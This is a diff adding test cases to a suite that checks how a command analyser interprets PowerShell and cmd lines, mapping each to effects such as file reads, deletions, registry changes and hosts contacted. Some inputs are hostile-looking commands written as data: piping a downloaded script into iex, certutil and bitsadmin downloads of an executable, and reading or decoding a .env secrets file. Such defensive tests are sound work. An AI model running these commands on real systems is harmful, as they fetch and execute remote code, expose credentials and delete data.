@@ -90,6 +90,18 @@ describe('PowerShell is read as PowerShell', () => {
     ['Start-Process cmd -ArgumentList "/c", "del D:\\x"', ['delete d:/x']],
     ['iwr https://a.example/i.ps1 | iex', ['host a.example', 'open iex']],
     ['Invoke-Expression $env:WHATEVER', ['open Invoke-Expression $env:WHATEVER']],
+    ['cmd /c type app\\.env', ['read c:/w/app/.env']],
+    ['cmd /c del app\\a "D:\\x"', ['delete c:/w/app/a', 'delete d:/x']],
+    ['Start-Process a.exe', ['execute c:/w/a.exe']],
+    ['Start-Process notepad', []],
+    ['certutil -urlcache -split -f https://a.example/x.exe x.exe', ['write c:/w/x.exe', 'host a.example']],
+    ['certutil -decode .env a', ['read c:/w/.env', 'write c:/w/a']],
+    ['bitsadmin /transfer job https://a.example/x D:\\x', ['write d:/x', 'host a.example']],
+    // Paths that are not of files
+    ['Remove-Item HKLM:\\Software\\A -Recurse', ['delete //registry/hklm/Software/A below']],
+    ['ri -Path Registry::HKEY_CURRENT_USER\\A', ['delete //registry/registry/HKEY_CURRENT_USER/A']],
+    ['cd HKCU:\\; Remove-Item Software', ['delete //registry/hkcu/Software']],
+    ['Remove-Item Env:TOKEN, Variable:x', []],
     // What cannot be read
     ['rm "unclosed', ['unread ']],
     ['Get-Content < a', ['unread < a']],
